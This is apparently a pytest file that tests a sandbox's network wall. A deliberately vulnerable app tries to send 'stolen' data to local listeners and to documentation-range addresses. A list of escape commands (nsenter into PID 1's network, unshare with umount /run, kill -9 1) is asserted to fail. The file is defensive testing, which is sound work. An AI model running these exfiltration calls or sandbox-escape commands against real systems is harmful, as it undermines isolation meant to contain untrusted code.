"""The wall around an environment: what calls home gets nowhere, by the system's own doing, and no trick opens it.

The application under test is made to connect to a listener of this machine outside of its wall, to addresses that
belong to nobody (RFC 5737, RFC 3849), and to a socket in a file, as an engine's is. Without the wall the same
application reaches the listeners: the test can see what it looks for.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from hardgate import environments, tools
from hardgate.environments import walls
from tests.environments.made import environment, folders, refused, service
from tests.environments.test_up import ask
from tests.lab.loopback import listening

# An application with a hole: it connects to wherever it is sent, and says how that went.
APPLICATION = """
import http.server, json, socket, sys, urllib.parse

def call(kind, place):
    family = {"4": socket.AF_INET, "6": socket.AF_INET6, "file": socket.AF_UNIX}[kind]
    with socket.socket(family) as end:
        end.settimeout(2)
        end.connect(place if kind == "file" else (place.rpartition(":")[0], int(place.rpartition(":")[2])))
        end.sendall(b"stolen")

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        said = []
        for kind, place in zip(query.get("kind", []), query.get("place", [])):
            try:
                socket.getaddrinfo(place, 80) if kind == "name" else call(kind, place)
                said.append("got out")
            except OSError as error:
                said.append(type(error).__name__ + ": " + (error.strerror or str(error)))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(json.dumps(said).encode())

http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""
VICTIM = service(command=(sys.executable, "-c", APPLICATION, "${PORT}"))


def _own_address() -> str:
    """An address of this machine that is not loopback's, where it has one."""
    rows = json.loads(subprocess.run(["ip", "-j", "-4", "addr"], capture_output=True, check=True).stdout)
    found = [one["local"] for row in rows for one in row["addr_info"] if not one["local"].startswith("127.")]
    return found[0] if found else "127.0.0.2"


def test_a_payload_that_calls_home_gets_nowhere(tmp_path: Path) -> None:
    said: dict[str, list[str]] = {}
    tried: dict[str, int | None] = {}
    path = tmp_path / "engine.sock"
    outside = listening(socket.AF_INET, ("0.0.0.0", 0)), listening(socket.AF_UNIX, str(path))
    with outside[0] as (server, heard), outside[1] as (_, through_file):
        port = server.getsockname()[1]
        targets = [
            ("4", f"127.0.0.1:{port}"),
            ("4", f"{_own_address()}:{port}"),
            ("file", str(path)),
            ("4", "192.0.2.1:80"),
            ("6", "2001:db8::1:80"),
            ("name", "example.com"),
        ]
        for isolation in ("network", "none"):
            # Without the wall the last three would really leave this machine, if it has a way.
            some = targets if isolation == "network" else targets[:3]
            query = "&".join(f"kind={kind}&place={place}" for kind, place in some)
            with environments.up(environment(VICTIM, isolation=isolation), **folders(tmp_path / isolation)) as running:
                said[isolation] = json.loads(ask(running, f"{running.address}/?{query}", tmp_path))
                tried[isolation] = running.attempts()
            if isolation == "network":
                assert heard == through_file == []
    assert said["none"] == ["got out"] * 3
    assert heard + through_file == [b"stolen"] * 3
    refused, unreachable = "ConnectionRefusedError: Connection refused", "OSError: Network is unreachable"
    # What stopped it: nobody listens on that loopback, no route leads anywhere else, the file is another, no resolver.
    assert said["network"][:5] == [refused, unreachable, refused, unreachable, unreachable]
    assert said["network"][5].startswith("gaierror: ")
    assert tried["none"] is None
    assert tried["network"] is not None
    assert tried["network"] >= 3  # the system counted what found no route


TRICKS = {
    "the first process's network": "nsenter --target 1 --net --user true",
    "another network device": "ip link add out type dummy",
    "what /run hid": "umount /run",
    "what /run hid, from a namespace within": "unshare --user --map-root-user --mount umount /run",
    "a network with more rights": "unshare --user --map-root-user nsenter --target 1 --net true",
    "the keeper": "kill -9 1; sleep 0.2; kill -0 1 && false",
}


def test_no_trick_opens_the_wall(tmp_path: Path) -> None:
    opened = {}
    with environments.up(environment(), **folders(tmp_path)) as running:
        for name, trick in TRICKS.items():
            words = running.words(("/bin/sh", "-c", f"PATH=$PATH:/sbin:/usr/sbin; {trick} && echo opened"), tmp_path)
            done = tools.run(words, cwd=tmp_path, env=running.environment(tmp_path), timeout=60)
            opened[name] = b"opened" in done.stdout or done.exit_code == 0
        words = running.words(("cat", "/proc/self/status"), tmp_path)
        held = tools.run(words, cwd=tmp_path, env=running.environment(tmp_path), timeout=60).stdout.decode()
        assert running.gone() == ()
    assert opened == dict.fromkeys(TRICKS, False)
    rights = dict(line.split(":\t", 1) for line in held.splitlines() if ":\t" in line)
    assert {rights[name] for name in ("CapPrm", "CapEff", "CapAmb")} == {"0" * 16}
    assert rights["NoNewPrivs"] == "1"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can have a wall without a user namespace")
def test_root_has_a_wall_also_where_user_namespaces_are_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(walls, "ways", lambda: (False,))
    with environments.up(environment(VICTIM), **folders(tmp_path)) as running:
        said = json.loads(ask(running, f"{running.address}/?kind=4&place=192.0.2.1:80", tmp_path))
        words = running.words(("nsenter", "--target", "1", "--net", "true"), tmp_path)
        done = tools.run(words, cwd=tmp_path, env=running.environment(tmp_path), timeout=60)
    assert said == ["OSError: Network is unreachable"]
    assert done.exit_code != 0
    assert "as no user" not in running.isolation


CLOSED = 'for kind in user net pid; do echo 0 > /proc/sys/user/max_${kind}_namespaces; done; exec "$@"'
TRY = """
import sys
from pathlib import Path
from hardgate import environments
from tests.environments.made import environment, folders
try:
    with environments.up(environment(), **folders(Path(sys.argv[1]))):
        print("up")
except environments.StartError as error:
    print(error.wall, error, "|", error.hint)
"""


def test_where_the_system_refuses_namespaces_nothing_starts_and_it_is_said(tmp_path: Path) -> None:
    """In a namespace that may not have any further ones, as many containers are."""
    inner = [sys.executable, "-c", TRY, str(tmp_path)]
    words = ["unshare", "--user", "--map-root-user", "/bin/sh", "-c", CLOSED, "sh", *inner]
    done = subprocess.run(
        words, cwd=Path(__file__).parents[2], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.stdout.startswith("True no wall could be put around the environment: unshare: unshare failed: "), done
    assert "isolation: none" in done.stdout


def test_a_system_without_the_commands_is_told_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    error = refused(environment(), tmp_path)
    assert "unshare, nsenter, setpriv, mount, env cannot be found" in str(error)
    assert error.wall


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="who is no root tests it anyway")
def test_who_is_no_root_has_a_wall_too(tmp_path: Path) -> None:
    """With the system's own Python: the one of a virtual environment may lie where a stranger may not look."""
    command = walls.around(("/bin/sh", "-c", "ls /sys/class/net /proc/sys/net/ipv4/conf; id -u"), user=True)
    words = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    done = subprocess.run(words, cwd="/", capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split()[-1] == "65534"
